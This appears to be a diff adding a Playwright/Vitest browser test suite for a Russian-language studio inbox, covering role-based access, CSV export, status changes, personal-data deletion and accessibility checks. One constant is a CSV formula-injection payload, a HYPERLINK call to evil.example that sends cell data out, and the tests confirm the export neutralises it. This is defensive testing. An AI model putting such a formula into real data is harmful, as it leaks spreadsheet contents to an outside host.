@@ -1,0 +1,219 @@
+import AxeBuilder from "@axe-core/playwright";
+import { parse } from "csv-parse/sync";
+import { readFileSync } from "node:fs";
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { waitForHydration } from "../support/app.ts";
+import { launchBrowser } from "../support/browser.ts";
+import { pdf } from "../support/cv-files.ts";
+import { submission } from "../support/inbox.ts";
+import { addUser, startStudioServer, type StudioServer } from "../support/studio.ts";
+
+/**
+ * The inbox in Chromium, as sales, HR, an editor and an admin use it: a
+ * request sent from the public contact form is in the inbox within 2 s; its
+ * CSV opens in Russian with the formula neutralised; a status is changed by
+ * keyboard; HR sees applications only; an editor is kept off; an admin
+ * answers a person's request for deletion. Every inbox page passes axe
+ * (WCAG 2.2 A/AA) at 1440 and 768 px with no CSP violation.
+ */
+const WCAG = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"];
+const FILL_MS = 3_200;
+const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Открыть")';
+const PASSWORD = { sales: "Sales in the browser 2026", hr: "People in the browser 2026", editor: "Editor in the browser 2026", admin: "Admin in the browser 2026" };
+
+let server: StudioServer;
+let browser: Browser;
+const application = submission({ form: "job", name: "Пётр Кандидатов", email: "petr@people.example", file: { name: "Резюме.pdf", type: "application/pdf", size: pdf().byteLength, sha256: "x", content: pdf() }, deliveries: [{ channel: "mail" }] });
+
+beforeAll(async () => {
+  server = await startStudioServer("sqlite");
+  for (const role of ["sales", "hr", "editor", "admin"] as const) await addUser(server, `${role}.web`, role, PASSWORD[role], { sales: "Соня Продажина", hr: "Гера Кадрова", editor: "Эдик Редакторов", admin: "Ада Админова" }[role]);
+  await server.store.insertSubmission(application);
+  await server.db.query("UPDATE outbox SET status = 'dead', attempts = 8, last_error = 'SMTP 550 mailbox full' WHERE submission_id = $1", [application.id]);
+  browser = await launchBrowser();
+});
+afterAll(async () => {
+  await browser?.close();
+  await server?.dispose();
+});
+
+type Session = { context: BrowserContext; page: Page; problems: string[] };
+
+async function open(width = 1440): Promise<Session> {
+  const context = await browser.newContext({ viewport: { width, height: 900 }, locale: "ru-RU", timezoneId: "Europe/Moscow", acceptDownloads: true });
+  const page = await context.newPage();
+  const problems: string[] = [];
+  page.on("console", (message) => {
+    const text = message.text();
+    if (message.type() === "error" && !/^Failed to load resource: the server responded with a status of 4\d\d/.test(text)) problems.push(text);
+    if (/Content Security Policy/i.test(text)) problems.push(text);
+  });
+  page.on("pageerror", (error) => problems.push(error.message));
+  return { context, page, problems };
+}
+
+async function signInAs(session: Session, role: keyof typeof PASSWORD, path = "/studio/inbox/") {
+  const { page } = session;
+  await page.goto(server.baseUrl + path);
+  await page.waitForURL(/\/studio\/sign-in\//);
+  await page.getByLabel("Логин").fill(`${role}.web`);
+  await page.getByLabel("Пароль").fill(PASSWORD[role]);
+  await page.getByRole("button", { name: "Войти" }).click();
+  await page.waitForURL((url) => url.pathname === path);
+}
+
+async function axe(page: Page): Promise<string[]> {
+  const results = await new AxeBuilder({ page }).withTags(WCAG).analyze();
+  return results.violations.flatMap((v) => v.nodes.map((node) => `${v.id}: ${node.target.join(" ")} (${node.failureSummary?.split("\n")[1]?.trim() ?? v.help})`));
+}
+
+describe("the inbox in a browser", () => {
+  it("shows a request from the public contact form within 2 s; its CSV opens in Russian with the formula neutralised", async () => {
+    const sales = await open();
+    await signInAs(sales, "sales");
+    await sales.page.getByRole("heading", { level: 1, name: "Заявки" }).waitFor();
+
+    // A visitor on the public site.
+    const visitor = await open(1280);
+    await visitor.page.goto(`${server.baseUrl}/contacts/?utm_source=inbox-test`);
+    await waitForHydration(visitor.page);
+    const form = visitor.page.locator("#project-request");
+    await form.getByLabel("Имя").fill("Тимофей Покупателев");
+    await form.getByLabel("E-mail").fill("timofey@buyer.example");
+    await form.getByLabel("Телефон").fill("8 903 555-44-33");
+    await form.getByLabel("О задаче").fill(HYPERLINK);
+    await form.getByRole("checkbox", { name: /для ответа на заявку/ }).check();
+    await visitor.page.waitForTimeout(FILL_MS);
+    await form.getByRole("button", { name: "Отправить заявку" }).click();
+    await form.getByRole("status").waitFor({ timeout: 15_000 });
+    const sent = Date.now();
+
+    // Sales looks again, as a person would: the request is there within 2 s.
+    const row = sales.page.getByRole("link", { name: "Тимофей Покупателев" });
+    const heading = sales.page.getByRole("heading", { level: 1, name: "Заявки" });
+    while ((await row.count()) === 0 && Date.now() - sent < 2_000) {
+      await sales.page.reload();
+      await heading.waitFor();
+    }
+    expect(await row.count(), "in the inbox within 2 s").toBe(1);
+    expect(Date.now() - sent).toBeLessThan(2_000);
+    expect(await sales.page.getByRole("cell", { name: /inbox-test/ }).count()).toBe(1);
+    // Sales sees no applications.
+    expect(await sales.page.getByText("Пётр Кандидатов").count()).toBe(0);
+
+    const [download] = await Promise.all([sales.page.waitForEvent("download"), sales.page.getByRole("link", { name: "Скачать CSV" }).click()]);
+    expect(download.suggestedFilename()).toBe("zayavki.csv");
+    const bytes = readFileSync(await download.path());
+    expect([...bytes.subarray(0, 3)], "UTF-8 byte-order mark").toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.toString("utf8");
+    expect(text).toContain("\r\n");
+    expect(text.split("\r\n")[0]?.split(";").length).toBe(18);
+    const [header, ...rows] = parse(text, { bom: true, delimiter: ";" }) as string[][];
+    const row0 = rows.find((r) => r.includes("Тимофей Покупателев")) as string[];
+    expect(row0, "the request is in the file").toBeDefined();
+    expect(row0[header?.indexOf("Сообщение или сопроводительное письмо") ?? -1]).toBe(`'${HYPERLINK}`);
+    expect(row0[header?.indexOf("Телефон") ?? -1]).toBe("'+79035554433");
+    expect(row0[header?.indexOf("Тип") ?? -1]).toBe("Заявка на проект");
+    expect(row0[header?.indexOf("UTM") ?? -1]).toBe("utm_source=inbox-test");
+    expect(sales.problems).toEqual([]);
+    await Promise.all([sales.context.close(), visitor.context.close()]);
+  });
+
+  it("opens a submission whole and changes its status by keyboard, keeping who changed it", async () => {
+    const session = await open();
+    await signInAs(session, "sales");
+    const { page } = session;
+    await page.getByRole("link", { name: "Тимофей Покупателев" }).click();
+    await page.getByRole("heading", { level: 1, name: /Заявка на\sпроект: Тимофей Покупателев/ }).waitFor();
+    expect(await page.getByText(HYPERLINK, { exact: true }).count()).toBe(1);
+    expect(await page.getByRole("heading", { name: "Согласие на обработку данных" }).count()).toBe(1);
+    const select = page.getByLabel("Новый статус");
+    await select.focus();
+    await select.selectOption("in-progress");
+    await page.keyboard.press("Tab");
+    await page.keyboard.press("Enter");
+    await page.getByRole("status").filter({ hasText: /Статус изменён: В\sработе\./ }).waitFor();
+    await page.getByRole("list", { name: "История статуса" }).getByText(/sales\.web: Новая → В\sработе/).waitFor();
+    expect(session.problems).toEqual([]);
+    await session.context.close();
+  });
+
+  it("shows HR applications only, with the CV as a download and «Повторить доставку» for a dead delivery", async () => {
+    const session = await open();
+    await signInAs(session, "hr");
+    const { page } = session;
+    expect(await page.getByText("Тимофей Покупателев").count()).toBe(0);
+    await page.getByRole("link", { name: "Пётр Кандидатов" }).click();
+    await page.getByRole("heading", { level: 1, name: /Отклик на\sвакансию/ }).waitFor();
+    const [cv] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Скачать резюме" }).click()]);
+    expect(cv.suggestedFilename()).toBe("Резюме.pdf");
+    expect(readFileSync(await cv.path())).toEqual(Buffer.from(pdf()));
+    await page.getByRole("button", { name: "Повторить доставку" }).click();
+    await page.getByRole("status").filter({ hasText: "Доставка снова в очереди" }).waitFor();
+    // A project request's page is not HR's: as if it did not exist.
+    const [project] = await server.db.query<{ id: string }>("SELECT id FROM submissions WHERE form = 'project'");
+    await page.goto(`${server.baseUrl}/studio/inbox/${project?.id}/`);
+    await page.getByRole("heading", { level: 1, name: "Страница не найдена" }).waitFor();
+    expect(session.problems).toEqual([]);
+    await session.context.close();
+  });
+
+  it("keeps an editor off the inbox and its data", async () => {
+    const session = await open();
+    await signInAs(session, "editor", "/studio/");
+    const { page } = session;
+    expect(await page.getByRole("navigation", { name: "Разделы студии" }).getByRole("link", { name: "Заявки" }).count()).toBe(0);
+    for (const path of ["/studio/inbox/", `/studio/inbox/${application.id}/`, "/studio/personal-data/"]) {
+      await page.goto(server.baseUrl + path);
+      await page.getByRole("heading", { level: 1, name: "Нет доступа" }).waitFor();
+      expect(await page.getByText("Пётр").count()).toBe(0);
+    }
+    await session.context.close();
+  });
+
+  it("answers a person's request: an admin finds everything by e-mail and deletes it", async () => {
+    const session = await open();
+    await signInAs(session, "admin", "/studio/personal-data/");
+    const { page } = session;
+    await page.getByRole("heading", { name: "Срок хранения" }).waitFor();
+    await page.getByLabel("E-mail").fill("PETR@people.example");
+    await page.getByRole("button", { name: "Найти" }).click();
+    await page.getByRole("heading", { name: "Найдено: заявок — 1, подписок — 0" }).waitFor();
+    const [copy] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Скачать всё (JSON)" }).click()]);
+    expect(JSON.parse(readFileSync(await copy.path(), "utf8")).submissions[0].id).toBe(application.id);
+    await page.getByRole("button", { name: "Удалить всё" }).click();
+    await page.getByRole("button", { name: "Да, удалить" }).click();
+    await page.getByRole("status").filter({ hasText: "Удалено: заявок — 1, файлов резюме — 1, доставок — 1" }).waitFor();
+    expect(await server.store.submission(application.id)).toBeNull();
+    expect(await server.store.file(application.id)).toBeNull();
+    expect(await server.outbox.forSubmission(application.id)).toEqual([]);
+    expect(session.problems).toEqual([]);
+    await session.context.close();
+  });
+
+  it("has no axe violations (WCAG 2.2 A and AA) and no CSP violations on any inbox page, at 1440 and 768 px", async () => {
+    const [project] = await server.db.query<{ id: string }>("SELECT id FROM submissions WHERE form = 'project'");
+    for (const width of [1440, 768]) {
+      const session = await open(width);
+      await signInAs(session, "admin");
+      const { page } = session;
+      const found: Record<string, string[]> = {};
+      for (const path of ["/studio/inbox/", "/studio/inbox/?q=%D1%82%D0%B8%D0%BC&status=in-progress", "/studio/inbox/?kind=job", `/studio/inbox/${project?.id}/`, "/studio/personal-data/"]) {
+        await page.goto(server.baseUrl + path);
+        await page.getByRole("heading", { level: 1 }).waitFor();
+        await page.waitForLoadState("networkidle");
+        found[path] = await axe(page);
+        // Nothing wider than the window but the tables' own scroll boxes.
+        expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), `${path} at ${width} px scrolls sideways`).toBe(true);
+      }
+      await page.getByLabel("Телефон").fill("+7 903 555-44-33");
+      await page.getByRole("button", { name: "Найти" }).click();
+      await page.getByRole("heading", { name: /^Найдено/ }).waitFor();
+      found["personal-data with results"] = await axe(page);
+      for (const [path, violations] of Object.entries(found)) expect(violations, `${path} at ${width} px`).toEqual([]);
+      expect(session.problems).toEqual([]);
+      await session.context.close();
+    }
+  });
+});
